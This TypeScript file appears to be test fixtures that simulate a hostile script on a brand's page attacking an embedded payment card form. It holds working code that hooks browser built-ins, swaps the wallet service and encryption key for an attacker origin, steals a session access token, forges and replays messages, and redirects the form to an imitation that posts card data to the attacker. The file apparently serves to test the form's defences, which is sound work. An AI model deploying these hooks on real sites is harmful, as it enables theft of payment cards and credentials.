/*
 * What a hostile script of the brand's own page does to get a card. Each function runs in that page, so it can't use
 * anything outside of itself.
 */

export const natives = ["postMessage", "MessageChannel", "fetch", "JSON", "Promise", "crypto"] as const;
export type Native = (typeof natives)[number];
export interface Attack {
  natives: readonly Native[];
  /** Origin of the attacker's server. */
  evil: string;
  /** Its key, as a wallet service sends it. */
  publicKey: string;
}

/**
 * Replaces the page's built-ins by ones that record what passes through them. Wherever they find the wallet service's
 * address or key, or the origins that the page trusts, they put in the attacker's.
 */
export async function replaceNatives({ natives: replaced, evil, publicKey }: Attack): Promise<void> {
  if (self !== top) return; // only a script of the page, not of its frames
  const page = window as unknown as Record<string, unknown> & { seenByPage?: string[] };
  const seen = (page.seenByPage ??= []);
  const { parse, stringify } = JSON;
  const { fetch, Promise: OwnPromise, JSON: ownJson, MessageChannel: OwnChannel } = window;
  const real = location.origin;
  const { importKey } = SubtleCrypto.prototype;
  const keyBytes = Uint8Array.from(atob(publicKey), (char) => char.charCodeAt(0));
  const use = { name: "RSA-OAEP", hash: "SHA-256" };
  const importTheirs = () =>
    Reflect.apply(importKey, crypto.subtle, ["spki", keyBytes, use, true, ["encrypt"]]) as Promise<CryptoKey>;
  let theirKey: CryptoKey | undefined;
  const isImported = importTheirs().then((key) => (theirKey = key));
  const isPlain = (value: unknown): value is Record<string, unknown> => {
    if (typeof value !== "object" || value === null) return false;
    const prototype: unknown = Object.getPrototypeOf(value);
    return Array.isArray(value) || prototype === Object.prototype || prototype === null;
  };
  const note = <Value>(value: Value): Value => {
    try {
      if (typeof value === "string") seen.push(value);
      else if (isPlain(value)) seen.push(stringify(value));
    } catch {
      // Not plain data.
    }
    return value;
  };

  // What the page says it trusts. Its options are fixed when it starts.
  const isFirst = !(Symbol.for("tv-selfcare.page") in window);
  let api = (window as unknown as { TvSelfcare?: { config?: { origins?: string[] } } }).TvSelfcare;
  if (isFirst)
    Object.defineProperty(window, "TvSelfcare", {
      configurable: true,
      get: () => api,
      set(given: typeof api) {
        api = given;
        if (given?.config) given.config.origins = [...(given.config.origins ?? []), evil];
      },
    });

  /**
   * In place: the wallet's key, and in a configuration the wallet service and the trusted origins. Those only before our
   * script by default: the page, which has its options by then, would refuse its own calls and save no card.
   */
  function rewrite<Value>(value: Value, isWhole = isFirst, depth = 0): Value {
    if (!isPlain(value) || depth > 6) return value;
    const found: Record<string, unknown> = value;
    try {
      if (typeof found["publicKey"] === "string") found["publicKey"] = publicKey;
      if (isWhole && found["msName"] === "wallet") found["msBaseUrl"] = `${evil}/api/wallet`;
      if (isWhole && Array.isArray(found["api"])) found["api"] = [];
      for (const one of Object.values(found)) rewrite(one, isWhole, depth + 1);
    } catch {
      // Frozen.
    }
    return value;
  }
  const rewriteText = (text: string): string => {
    try {
      return stringify(rewrite(parse(text) as unknown));
    } catch {
      return text; // not JSON
    }
  };
  /** The same in a request to the card form, and in everything else that it might read. */
  function rewriteMessage(message: unknown): unknown {
    const given = Object(message) as { order?: Record<string, unknown> };
    if (!given.order) return message;
    const order = rewrite(structuredClone(given.order), true);
    if ("options" in order) order["options"] = { configUrl: `${evil}/config`, origins: [evil] };
    for (const [name, value] of Object.entries(order)) {
      if (/url|address$|origin/i.test(name)) order[name] = `${evil}/api/wallet`;
      if (value instanceof CryptoKey) order[name] = theirKey;
    }
    return { ...given, order };
  }
  /** The page's own calls have their usual addresses, so that the change isn't noticed. */
  function sendHome(): void {
    window.fetch = new Proxy(fetch, {
      apply: (target, self, [input, options]: [RequestInfo | URL, RequestInit?]) =>
        Reflect.apply(target, self, [
          String(input instanceof Request ? input.url : input).replace(evil, real),
          options,
        ]),
    });
  }

  const replacements: Record<Native, () => void> = {
    postMessage() {
      const { postMessage } = MessagePort.prototype;
      const heard = new WeakSet<MessagePort>();
      MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
        if (!heard.has(this)) this.addEventListener("message", ({ data }) => note(data));
        heard.add(this);
        return Reflect.apply(postMessage, this, [note(rewriteMessage(message)), ...more]);
      };
    },
    MessageChannel() {
      page["MessageChannel"] = function Channel() {
        const { port1, port2 } = new OwnChannel();
        const theirs = new OwnChannel();
        const outer = theirs.port1;
        theirs.port2.onmessage = ({ data }) => port1.postMessage(note(rewriteMessage(data)));
        port1.onmessage = ({ data }) => theirs.port2.postMessage(note(data));
        return { port1: outer, port2 };
      };
    },
    fetch() {
      sendHome();
      const home = window.fetch;
      window.fetch = new Proxy(home, {
        apply(target, self, [input, options]: [RequestInfo | URL, RequestInit?]) {
          note(options?.body);
          return Reflect.apply(target, self, [input, options]);
        },
      });
      const { text } = Response.prototype;
      Response.prototype.text = async function () {
        return rewriteText((await Reflect.apply(text, this, [])) as string);
      };
    },
    JSON() {
      page["JSON"] = {
        parse: (from: string) => rewrite(ownJson.parse(from) as unknown),
        stringify: (...all: Parameters<typeof stringify>) => note(stringify(...all)),
      };
      sendHome();
    },
    Promise() {
      const { then } = OwnPromise.prototype;
      /** Not the built-in one, so each `await` calls `then`. */
      const Other = Object.assign(function Promise() {}, { [Symbol.species]: OwnPromise });
      Object.defineProperty(OwnPromise.prototype, "constructor", { value: Other });
      // oxlint-disable-next-line unicorn/no-thenable -- it is what the attacker replaces
      Object.defineProperty(OwnPromise.prototype, "then", {
        value(this: unknown, onValue: unknown, ...more: unknown[]) {
          const onTheirs =
            typeof onValue === "function"
              ? (value: unknown) => onValue(note(rewrite(value))) as unknown
              : onValue;
          return Reflect.apply(then, this, [onTheirs, ...more]) as unknown;
        },
      });
      sendHome();
    },
    crypto() {
      for (const name of ["encrypt", "digest", "wrapKey"] as const) {
        const own = SubtleCrypto.prototype[name];
        Object.defineProperty(SubtleCrypto.prototype, name, {
          value(...all: unknown[]) {
            for (const one of all) note(ArrayBuffer.isView(one) ? new TextDecoder().decode(one) : one);
            return Reflect.apply(own, this, all) as unknown;
          },
        });
      }
      Object.defineProperty(SubtleCrypto.prototype, "importKey", {
        value: (...all: unknown[]) =>
          (Object(all[2]) as { name?: string }).name === use.name
            ? importTheirs()
            : (Reflect.apply(importKey, crypto.subtle, all) as unknown),
      });
    },
  };
  for (const name of replaced) replacements[name]();
  await isImported;
}

/** Opens a channel of its own to the card form, sends it an order, and records the answers. */
export function orderByOwnChannel(order: object): void {
  const find = (root: ParentNode): HTMLIFrameElement | undefined => {
    for (const node of root.querySelectorAll("*")) {
      if (node instanceof HTMLIFrameElement && node.src.includes("card-frame")) return node;
      const found = node.shadowRoot && find(node.shadowRoot);
      if (found) return found;
    }
    return undefined;
  };
  const seenByPage: string[] = [];
  Object.assign(window, { seenByPage });
  const { accessToken } = JSON.parse(sessionStorage.getItem("tv:login") ?? "{}") as { accessToken?: string };
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = ({ data }) => seenByPage.push(JSON.stringify(data));
  find(document)?.contentWindow?.postMessage("tv-card-frame", "*", [port2]);
  port1.postMessage({ type: "send", order: { ...order, accessToken } });
}

/** An order that the page hasn't given, with addresses for a card form that would read them from it. */
export function forgedOrder(evil: string): object {
  const address = { line1: "1 Elm", line2: "", city: "Boise", state: "ID", zip: "83702", country: "US" };
  const person = { personId: "p-1002", customerRelationshipId: "cr-2002" };
  const card = { ...person, firstName: "Nico", lastName: "Newman", token: "", address };
  const made = { accessToken: "made-up", idempotencyKey: "made-up", language: "en", deadlineMs: 9_000 };
  const operations = [
    { opName: "getPublicKey", httpMethod: "GET", apiPath: "/public-key" },
    { opName: "addWallet", httpMethod: "POST", apiPath: "/cards" },
  ];
  const wallet = { msName: "wallet", msBaseUrl: `${evil}/api/wallet`, operations };
  const wire = { headers: {}, services: {} };
  const configuration = { microservices: [wallet], origins: { api: [], sandbox: [] }, wire };
  const options = { configUrl: `${evil}/config`, origins: [evil] };
  return { id: "made-up", headers: {}, ...made, card, configuration, options };
}

/** Makes the page send each message to the card form three times, and the order once more after each answer. */
export function repeatMessages(): void {
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
    for (let n = 0; n < 3; n++) Reflect.apply(postMessage, this, [message, ...more]);
    const { type } = Object(message) as { type?: string };
    if (type !== "send") return;
    this.addEventListener("message", ({ data }: MessageEvent<{ type?: string }>) => {
      if (data.type === "saved") Reflect.apply(postMessage, this, [message, ...more]);
    });
  };
}

/**
 * Takes the page's end of the channel to the card form. `askCardForm` makes it focus each of its fields, or the named one,
 * and validate them, and resolves to all received messages.
 */
export function listen(): void {
  const { postMessage } = MessagePort.prototype;
  const received: unknown[] = [];
  let tell = (_message: unknown) => {};
  let answered = () => {};
  MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
    const { type } = Object(message) as { type?: string };
    if (type === "draw") {
      tell = (reported) => void Reflect.apply(postMessage, this, [reported]);
      this.addEventListener("message", ({ data }: MessageEvent<{ id?: string }>) => {
        received.push(data);
        if (data.id === "theirs") answered();
      });
    }
    return Reflect.apply(postMessage, this, [message, ...more]) as void;
  };
  Object.assign(window, {
    askCardForm: async (...fields: unknown[]) => {
      for (const field of fields.length ? fields : ["code", "expiration", "number"])
        tell({ type: "focus", field });
      await new Promise<void>((resolve) => {
        answered = resolve;
        tell({ type: "check", id: "theirs" });
      });
      return received;
    },
  });
}

/** Makes the page send an order, and an unrequested token, before the form is drawn. */
export function reorderMessages(order: object): void {
  if (self !== top) return;
  const { postMessage } = MessagePort.prototype;
  let isFirst = true;
  MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
    const { type } = Object(message) as { type?: string };
    if (type === "draw" && isFirst) {
      isFirst = false;
      Reflect.apply(postMessage, this, [{ type: "send", order }]);
      Reflect.apply(postMessage, this, [{ type: "token", id: "made-up", accessToken: "made-up" }]);
    }
    return Reflect.apply(postMessage, this, [message, ...more]) as void;
  };
}

const frameOf = `(function find(root) {
  for (const node of root.querySelectorAll("*")) {
    if (node.localName === "iframe" && node.src.includes("card-frame")) return node;
    const found = node.shadowRoot && find(node.shadowRoot);
    if (found) return found;
  }
})(document)`;

/** Navigates the card form's frame to an imitation. */
export const leadAway = (how: "src" | "location", to: string): string =>
  how === "src"
    ? `${frameOf}.src = ${JSON.stringify(to)}`
    : `${frameOf}.contentWindow.location = ${JSON.stringify(to)}`;

/** Imitates the card form's document, and sends the attacker what it receives. */
export const imitation = `<!doctype html><title>Imitation</title><script>
  addEventListener("message", ({ ports: [port] }) => {
    if (!port) return;
    port.onmessage = ({ data }) => {
      fetch(${JSON.stringify("/heard")}, { method: "POST", body: JSON.stringify(data) });
      if (data.type === "draw") port.postMessage({ type: "drawn", canSeal: true });
      if (data.type !== "check") return;
      const typed = { cardType: "VISA", last4: "4242", expirationDate: "1231", isNewNumber: true, isNewExpiration: true };
      port.postMessage({ type: "checked", id: data.id, typed, checked: typed });
    };
    port.postMessage({ type: "renew", id: "x", refused: "x" });
  });
</script>`;

/** A page that frames the card form's document itself. */
export const foreignParent = (
  frame: string,
  sandbox = 'sandbox="allow-scripts"',
): string => `<!doctype html><title>Foreign</title>
<iframe ${sandbox} src="${frame}" width="400" height="300"></iframe><script>
  onload = () => {
    const { port1, port2 } = new MessageChannel();
    document.querySelector("iframe").contentWindow.postMessage("tv-card-frame", "*", [port2]);
    const names = ["numberLabel", "numberRequired", "numberInvalid", "numberType", "numberLength", "expirationLabel",
      "expirationHint", "expirationRequired", "expirationInvalid", "expirationPast", "codeLabel", "codeHint", "codeHintAmex", "codeRequired",
      "codeLength"];
    const words = Object.fromEntries(names.map((name) => [name, name]));
    port1.onmessage = ({ data }) => {
      if (data.type === "unusable") document.title = "Refused: " + data.problem;
    };
    port1.postMessage({ type: "draw", appearance: { lang: "en", dir: "ltr", style: {}, words } });
  };
</script>`;
